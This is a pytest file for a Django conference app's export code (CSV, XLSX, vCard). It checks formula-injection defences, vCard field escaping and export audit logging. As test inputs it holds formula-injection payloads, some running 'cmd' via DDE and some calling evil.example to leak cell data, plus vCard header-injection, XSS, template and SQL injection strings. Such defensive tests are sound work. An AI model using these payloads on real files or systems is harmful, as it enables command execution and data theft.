"""Files that leave with people's data: inert, well formed, light, and logged before the first byte."""

import csv
import io
import operator
import tempfile
import tracemalloc
from datetime import UTC, date, datetime

import openpyxl
import pytest
import vobject
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import ValidationError
from django.db import DatabaseError, connection, transaction
from django.test import RequestFactory
from django.utils import timezone, translation

from conference import exports
from conference.exports import Card, Column, Format
from conference.privacy.models import ExportLog
from tests.factories import make_conference, make_user

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tordinary after a tab",
    "\rordinary after a return",
    " =1+1",
    "   @A1",
    "\u00a0=1+1",
    "\u2003+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200e\u202e=1+1",
    "\ufeff=1+1",
    "\u2060-1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "⁺1",
    "−1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1f\x7f=1+1",
    "name;=1+1",
    "name,=1+1",
    'name";=1+1',
    'name",=1+1',
    "name\n=1+1",
    "name\r\n+1",
    "name\t=1+1",
    "'; =1+1",
    "name|=1+1",
]
# A spreadsheet may take the text for a formula after any of these.
BREAKS = ';,\t\r\n"|'
STARTS = "=+-@＝＋－＠﹦﹢﹣﹫⁺⁻−"


@pytest.fixture(autouse=True)
def in_english():
    with translation.override("en"):
        yield


ONE_COLUMN = [Column("name", "Name", lambda row: row)]


def written(format, columns, rows, card=None):
    file = io.BytesIO()
    exports.write(file, format, columns, rows, card)
    return file.getvalue()


def written_csv(*values):
    return written(Format.CSV, ONE_COLUMN, values).decode("utf-8-sig")


def written_sheet(columns, rows):
    return openpyxl.load_workbook(io.BytesIO(written(Format.XLSX, columns, rows))).active


def starts_a_formula(text):
    unseen = "\u200b\u200e\u202e\u2060\ufeff\u00ad"
    return text.lstrip().lstrip(unseen).lstrip().lstrip(unseen)[:1] in tuple(STARTS)


# --- CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_holds_no_formula_whatever_the_separator_it_is_read_with(payload):
    text = written_csv(payload)

    _header, row = csv.reader(io.StringIO(text, newline=""))
    assert not starts_a_formula(row[0])
    assert row[0][:1] not in ("\t", "\r", "\n")
    for separator in BREAKS:
        assert not any(starts_a_formula(piece) for piece in text.split(separator))


@pytest.mark.parametrize(
    "text",
    [
        "Jean-Luc d’Hérouville-Saint-Clair",
        "journaliste@example.org",
        "a=b",
        "L'Écho, la Dépêche",
        "محمد بن سلمان",
        "王小明",
        "👩‍👩‍👧‍👦",
        'He said "no"; nobody, nowhere',
        "two\nlines",
    ],
)
def test_csv_keeps_ordinary_text_as_it_is(text):
    _header, row = csv.reader(io.StringIO(written_csv(text), newline=""))

    assert row == [text]


@pytest.mark.parametrize(("language", "separator"), [("fr", ";"), ("en", ",")])
def test_csv_has_its_mark_the_separator_of_the_language_and_crlf(language, separator):
    columns = [Column("a", "Prénom", lambda row: row[0]), Column("b", "Nom", lambda row: row[1])]

    with translation.override(language):
        content = written(Format.CSV, columns, [("Ada", "Lovelace")])

    assert content == f"\ufeffPrénom{separator}Nom\r\nAda{separator}Lovelace\r\n".encode()


def test_csv_writes_dates_as_iso_and_several_values_as_one():
    columns = [Column(str(i), str(i), operator.itemgetter(i)) for i in range(5)]
    row = (date(2027, 2, 4), datetime(2027, 2, 4, 8, 30, tzinfo=UTC), ["fr", "en"], None, 12)

    content = written(Format.CSV, columns, [row]).decode("utf-8-sig")

    assert content.splitlines()[1] == '2027-02-04,2027-02-04 09:30,"fr, en",,12'


def test_csv_drops_what_no_file_can_hold():
    assert written_csv("a\x00b\ud800c\uffff").splitlines()[1] == "abc"


# --- XLSX -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULAS)
def test_xlsx_text_is_text_and_unchanged(payload):
    cell = written_sheet(ONE_COLUMN, [payload])["A2"]

    assert cell.data_type in ("s", "inlineStr")
    # XML folds \r\n and \r into \n, and only printable characters are kept.
    shown = exports.printable(payload).replace("\r\n", "\n").replace("\r", "\n")
    assert (cell.value or "").replace("\r\n", "\n").replace("\r", "\n") == shown
    if exports.FORMULA.search(payload):
        assert cell.quotePrefix


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "0012", "1e5", "TRUE", "2027-02-04", ""])
def test_xlsx_guesses_no_type(text):
    cell = written_sheet(ONE_COLUMN, [text])["A2"]

    assert (cell.value or "") == text
    assert cell.data_type in ("s", "inlineStr", "n" if not text else "s")


def test_xlsx_has_real_dates_a_bold_frozen_header_and_widths():
    columns = [
        Column("day", "Jour", lambda row: row[0], 12),
        Column("at", "Instant", lambda row: row[1], 18),
        Column("n", "Nombre", lambda row: row[2]),
    ]
    row = (date(2027, 2, 4), datetime(2027, 2, 4, 8, 30, tzinfo=UTC), 7)

    sheet = written_sheet(columns, [row])

    assert sheet.freeze_panes == "A2"
    assert [cell.font.b for cell in sheet[1]] == [True] * 3
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [12, 18, 20]
    assert [cell.value for cell in sheet[2]] == [
        datetime(2027, 2, 4),
        datetime(2027, 2, 4, 9, 30),
        7,
    ]
    assert [cell.data_type for cell in sheet[2]] == ["d", "d", "n"]


def test_xlsx_cuts_what_excel_would_call_damage():
    assert len(written_sheet(ONE_COLUMN, ["é" * 40_000])["A2"].value) == 32_767


# --- vCard ----------------------------------------------------------------------------------------

ADA = Card(
    uid="urn:uuid:0f3d8a2e-4f5e-5c4e-9c58-f1b8b0a2d001",
    family_name="O’Hara; Smith, née Byron",
    given_name="Ada",
    organisation="L’Écho; la Dépêche",
    title="Cheffe, sciences\\société",
    email="ada@example.org",
    phone="+33 1 99 00 20 01",
    mobile="+33 1 99 00 40 01",
    categories=["Santé, soins", "IA; société"],
    languages=["fr", "en"],
    city="Paris",
    country="France",
    url="https://example.org/ada?a=1,2;3",
    revised_at=datetime(2027, 2, 4, 8, 30, tzinfo=UTC),
)


def unfolded(content):
    return content.decode().replace("\r\n ", "").split("\r\n")


def written_cards(*cards):
    return written(Format.VCARD, [], cards, lambda card: card)


def test_vcard_is_version_4_with_its_fields_in_order():
    assert unfolded(written_cards(ADA)) == [
        "BEGIN:VCARD",
        "VERSION:4.0",
        "FN:Ada O’Hara\\; Smith\\, née Byron",
        "N:O’Hara\\; Smith\\, née Byron;Ada;;;",
        "ORG:L’Écho\\; la Dépêche",
        "TITLE:Cheffe\\, sciences\\\\société",
        "EMAIL;TYPE=work:ada@example.org",
        "TEL;TYPE=work,voice:+33 1 99 00 20 01",
        "TEL;TYPE=work,cell:+33 1 99 00 40 01",
        "CATEGORIES:Santé\\, soins,IA\\; société",
        "LANG:fr",
        "LANG:en",
        "ADR;TYPE=work:;;;Paris;;;France",
        "URL:https://example.org/ada?a=1,2;3",
        "UID:urn:uuid:0f3d8a2e-4f5e-5c4e-9c58-f1b8b0a2d001",
        "REV:20270204T083000Z",
        "END:VCARD",
        "",
    ]


def test_vcard_is_read_by_another_parser():
    cards = list(vobject.readComponents(written_cards(ADA, ADA).decode()))

    assert len(cards) == 2
    assert cards[0].version.value == "4.0"
    assert cards[0].fn.value == "Ada O’Hara; Smith, née Byron"
    assert cards[0].n.value.family == "O’Hara; Smith, née Byron"
    assert cards[0].org.value == ["L’Écho; la Dépêche"]
    assert cards[0].title.value == "Cheffe, sciences\\société"
    assert [one.value for one in cards[0].contents["lang"]] == ["fr", "en"]
    assert cards[0].adr.value.city == "Paris"


@pytest.mark.parametrize(
    "name",
    [
        "é" * 100,
        "王" * 90,
        "👩‍👩‍👧‍👦" * 20,
        "محمد بن عبد العزيز " * 9,
        "e\u0301" * 99,
        "Ada\r\nEMAIL:evil@example.org",
        "Ada\nEND:VCARD\nBEGIN:VCARD",
        "Ada\x00\x0b\u2028EMAIL:evil@example.org",
        "\\n\\;\\,",
        "=cmd|' /C calc'!A0",
        "<script>alert(1)</script>",
        "{{ 7*7 }}{% load x %}",
        "Robert'); DROP TABLE journalist;--",
        "Null",
        "X",
    ],
)
def test_vcard_hostile_names_stay_in_their_field(name):
    card = Card(uid="urn:uuid:1", family_name=name, email="ada@example.org")

    content = written_cards(card)

    assert all(len(line) <= 75 for line in content.split(b"\r\n"))
    assert all(line.decode() is not None for line in content.split(b"\r\n"))
    (read,) = vobject.readComponents(content.decode())
    assert [one.value for one in read.contents["email"]] == ["ada@example.org"]
    assert read.fn.value == exports.line_of(name)


def test_vcard_leaves_out_what_is_empty_and_what_is_no_language():
    card = Card(uid="urn:uuid:1", family_name="Ada", languages=["fr", "x;y", "français"])

    names = [line.partition(":")[0] for line in unfolded(written_cards(card))]

    assert names == ["BEGIN", "VERSION", "FN", "N", "LANG", "UID", "END", ""]


# --- Weight ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("format", "many"), [(Format.CSV, 20_000), (Format.XLSX, 2_000), (Format.VCARD, 2_000)]
)
def test_memory_does_not_grow_with_the_list(format, many):
    columns = [Column(str(i), str(i), lambda row: "Le Courrier de Brumerive") for i in range(5)]

    def peak(count):
        with tempfile.TemporaryFile() as file:
            tracemalloc.start()
            exports.write(file, format, columns, range(count), lambda row: ADA)
            _now, most = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return most

    peak(10)  # what is imported and remembered once
    assert peak(many) < peak(200) + 500_000


# --- The log --------------------------------------------------------------------------------------


def request_of(user, language="en"):
    request = RequestFactory().post("/")
    request.user = user
    return request


def content_of(response):
    content = response.getvalue()
    response.close()
    return content


def export(user, **changes):
    arguments = {
        "dataset": "media-list",
        "format": Format.CSV,
        "columns": ONE_COLUMN,
        "rows": ["Ada", "Grace"],
        "purpose": "An invitation",
        "question": {"list": 1},
    } | changes
    return exports.export_response(request_of(user), **arguments)


@pytest.mark.django_db
def test_the_log_says_who_what_how_many_and_why_before_the_first_byte():
    user = make_user()

    response = export(user)

    entry = ExportLog.objects.get()
    assert (entry.user, entry.user_email, entry.dataset) == (user, user.email, "media-list")
    assert (entry.format, entry.rows, entry.purpose) == ("csv", 2, "An invitation")
    assert (entry.columns, entry.question) == (["name"], {"list": 1})
    assert content_of(response) == b"\xef\xbb\xbfName\r\nAda\r\nGrace\r\n"


@pytest.mark.django_db(transaction=True)
def test_the_log_row_is_committed_when_the_response_is_made():
    user = make_user()
    with pytest.raises(RuntimeError, match="durable"), transaction.atomic():
        export(user)
    assert ExportLog.objects.count() == 0

    export(user).close()
    connection.close()
    assert ExportLog.objects.count() == 1
    with connection.cursor() as cursor:
        cursor.execute("TRUNCATE privacy_exportlog")


@pytest.mark.django_db
@pytest.mark.parametrize("purpose", ["", "   ", "\n\t"])
def test_no_purpose_no_file(purpose):
    with pytest.raises(ValidationError):
        export(make_user(), purpose=purpose)
    assert ExportLog.objects.count() == 0


@pytest.mark.django_db
def test_a_log_that_fails_lets_no_byte_out(monkeypatch):
    files = []
    make_file = tempfile.TemporaryFile

    def remembered():
        files.append(make_file())
        return files[-1]

    def broken(self, *args, **kwargs):
        raise DatabaseError("The disk is full.")

    monkeypatch.setattr(tempfile, "TemporaryFile", remembered)
    monkeypatch.setattr(ExportLog, "save", broken)

    with pytest.raises(DatabaseError):
        export(make_user())
    assert [file.closed for file in files] == [True]


@pytest.mark.django_db
def test_a_failure_half_way_logs_nothing_and_sends_nothing():
    def rows():
        yield "Ada"
        raise OSError("The reader has gone.")

    with pytest.raises(OSError, match="gone"):
        export(make_user(), rows=rows())
    assert ExportLog.objects.count() == 0


@pytest.mark.django_db
def test_nobody_exports_without_a_name():
    with pytest.raises(AssertionError):
        export(AnonymousUser())


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("format", "extension", "content_type"),
    [
        (Format.CSV, "csv", "text/csv; charset=utf-8"),
        (
            Format.XLSX,
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (Format.VCARD, "vcf", "text/vcard; charset=utf-8"),
    ],
)
def test_files_are_named_by_conference_dataset_and_day(format, extension, content_type):
    make_conference(slug="ai-2027")

    columns = [Column("name", "Name", lambda card: card.family_name)]
    response = export(
        make_user(), format=format, columns=columns, rows=[ADA], card=lambda card: card
    )

    name = f"ai-2027-media-list-{timezone.localdate()}.{extension}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Content-Type"] == content_type
    assert int(response["Content-Length"]) == len(content_of(response))
